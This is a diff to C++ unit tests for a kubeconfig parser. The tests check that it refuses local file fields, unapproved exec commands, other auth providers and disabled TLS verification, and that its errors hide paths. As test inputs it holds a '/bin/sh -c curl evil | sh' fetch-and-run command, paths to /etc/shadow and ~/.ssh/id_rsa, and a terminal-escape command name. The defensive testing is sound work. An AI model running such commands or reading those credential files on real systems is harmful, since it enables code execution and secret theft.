@@ -91,25 +91,107 @@ TEST(KubeconfigTest, ReadsAnAuthProviderUser) {
   EXPECT_EQ(config.auth_provider, "azure");
 }
 
-TEST(KubeconfigTest, ReadsTheCertificateAuthorityFromAFileRelativeToTheKubeconfig) {
+TEST(KubeconfigTest, FileFieldsAreRefusedAndNeverRead) {
+  // A readable file next to the kubeconfig: the server's kubeconfig still must not make us read
+  // it, relative or absolute, alone or beside the inline field.
   auto const folder = std::filesystem::temp_directory_path() /
                       ("wisetup-kubeconfig-test-" +
                        std::to_string(::testing::UnitTest::GetInstance()->random_seed()));
   std::filesystem::create_directories(folder);
   std::ofstream(folder / "ca.pem") << k_ca;
-  auto const yaml = "current-context: c\n"
-                    "contexts: [{name: c, context: {cluster: k, user: u}}]\n"
-                    "clusters: [{name: k, cluster: {server: 'https://k:6443', "
-                    "certificate-authority: ca.pem}}]\n"
-                    "users: [{name: u, user: {token: t}}]\n";
+  auto const ca_yaml = "current-context: c\n"
+                       "contexts: [{name: c, context: {cluster: k, user: u}}]\n"
+                       "clusters: [{name: k, cluster: {server: 'https://k:6443', "
+                       "certificate-authority: ca.pem}}]\n"
+                       "users: [{name: u, user: {token: t}}]\n";
   auto const path = folder / "config";
-  std::ofstream(path) << yaml;
-
-  auto const config = parse_kubeconfig(yaml, path.string());
-  EXPECT_EQ(config.certificate_authority_pem, k_ca);
-  auto const missing = error_of([&] { (void)parse_kubeconfig(yaml, "inline"); });
-  EXPECT_NE(missing.find("certificate-authority"), std::string::npos) << missing;
+  std::ofstream(path) << ca_yaml;
+  auto const ca = error_of([&] { (void)parse_kubeconfig(ca_yaml, path.string()); });
+  EXPECT_NE(ca.find("clusters[name=k].cluster.certificate-authority,"), std::string::npos) << ca;
+  EXPECT_NE(ca.find("never reads local files named by a server's kubeconfig"), std::string::npos)
+      << ca;
+  EXPECT_NE(ca.find("certificate-authority-data"), std::string::npos) << ca;
+  EXPECT_EQ(ca.find("ca.pem"), std::string::npos) << ca; // the path is not quoted either
   std::filesystem::remove_all(folder);
+
+  auto const both = error_of([] {
+    (void)parse_kubeconfig(
+        kubeconfig("    token: t\n", "    certificate-authority: /etc/kubernetes/ca.crt\n"), "s");
+  });
+  EXPECT_NE(both.find("clusters[name=aks1].cluster.certificate-authority,"), std::string::npos)
+      << both;
+
+  struct Case {
+    std::string user;
+    std::string field;
+  };
+  for (auto const& [user, field] :
+       std::vector<Case>{{"    client-certificate: /home/me/.kube/cert.pem\n    client-key-data: " +
+                              base64(k_key) + "\n",
+                          "users[name=clusterUser_rg1_aks1].user.client-certificate"},
+                         {"    client-certificate-data: " + base64(k_cert) +
+                              "\n    client-key: /home/me/.ssh/id_rsa\n",
+                          "users[name=clusterUser_rg1_aks1].user.client-key"},
+                         {"    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n",
+                          "users[name=clusterUser_rg1_aks1].user.tokenFile"},
+                         {"    token: t\n    tokenFile: /etc/shadow\n",
+                          "users[name=clusterUser_rg1_aks1].user.tokenFile"}}) {
+    auto const message = error_of([&] { (void)parse_kubeconfig(kubeconfig(user), "src"); });
+    EXPECT_NE(message.find(field + ","), std::string::npos) << message;
+    EXPECT_NE(message.find("never reads local files"), std::string::npos) << message;
+    EXPECT_EQ(message.find("/"), message.find("//")) << "no path quoted: " << message;
+  }
+}
+
+TEST(KubeconfigTest, ExecCommandOtherThanKubeloginIsRefusedAndNamed) {
+  for (std::string const command : {"/bin/sh", "aws", "/usr/local/bin/kubelogin", "Kubelogin"}) {
+    auto const message = error_of([&] {
+      (void)parse_kubeconfig(kubeconfig("    exec:\n      command: " + command +
+                                        "\n      args: [-c, 'curl evil | sh']\n"),
+                             "the user credential");
+    });
+    EXPECT_NE(message.find("exec.command \"" + command + "\""), std::string::npos) << message;
+    EXPECT_NE(message.find("never runs a command"), std::string::npos) << message;
+    EXPECT_NE(message.find("the user credential"), std::string::npos) << message;
+  }
+  // A name with control characters is quoted harmlessly.
+  auto const escape = error_of([] {
+    (void)parse_kubeconfig(kubeconfig("    exec:\n      command: \"evil\\e[2Jx\"\n"), "src");
+  });
+  EXPECT_EQ(escape.find('\x1b'), std::string::npos) << escape;
+  EXPECT_NE(escape.find("\"evil?[2Jx\""), std::string::npos) << escape;
+}
+
+TEST(KubeconfigTest, AuthProviderOtherThanAzureIsRefusedAndNamed) {
+  auto const message = error_of([] {
+    (void)parse_kubeconfig(
+        kubeconfig("    auth-provider:\n      name: gcp\n      config: {cmd-path: /bin/sh}\n"),
+        "src");
+  });
+  EXPECT_NE(message.find("auth-provider.name \"gcp\""), std::string::npos) << message;
+}
+
+TEST(KubeconfigTest, InsecureSkipTlsVerifyIsRefused) {
+  for (std::string const on : {"true", "True", "yes"}) {
+    auto const message = error_of([&] {
+      (void)parse_kubeconfig(
+          kubeconfig("    token: t\n", "    insecure-skip-tls-verify: " + on + "\n"), "src");
+    });
+    EXPECT_NE(message.find("clusters[name=aks1].cluster.insecure-skip-tls-verify: true"),
+              std::string::npos)
+        << message;
+    EXPECT_NE(message.find("never switches off"), std::string::npos) << message;
+  }
+  auto const odd = error_of([] {
+    (void)parse_kubeconfig(kubeconfig("    token: t\n", "    insecure-skip-tls-verify: maybe\n"),
+                           "src");
+  });
+  EXPECT_NE(odd.find("insecure-skip-tls-verify that is not true or false"), std::string::npos)
+      << odd;
+  // Verification left on is fine.
+  auto const config = parse_kubeconfig(
+      kubeconfig("    token: t\n", "    insecure-skip-tls-verify: false\n"), "src");
+  EXPECT_EQ(config.token, "t");
 }
 
 TEST(KubeconfigTest, MissingCurrentContextIsNamed) {
@@ -140,6 +222,12 @@ TEST(KubeconfigTest, PlainHttpServerIsRefused) {
   yaml.replace(yaml.find("https://"), 8, "http://");
   auto const message = error_of([&] { (void)parse_kubeconfig(yaml, "src"); });
   EXPECT_NE(message.find("https://"), std::string::npos) << message;
+
+  auto no_host = kubeconfig("    token: x\n");
+  auto const server = no_host.find("https://");
+  no_host.replace(server, no_host.find('\n', server) - server, "https://");
+  auto const empty = error_of([&] { (void)parse_kubeconfig(no_host, "src"); });
+  EXPECT_NE(empty.find(".server that is not an https:// URL"), std::string::npos) << empty;
 }
 
 TEST(KubeconfigTest, ErrorsNeverQuoteSecrets) {
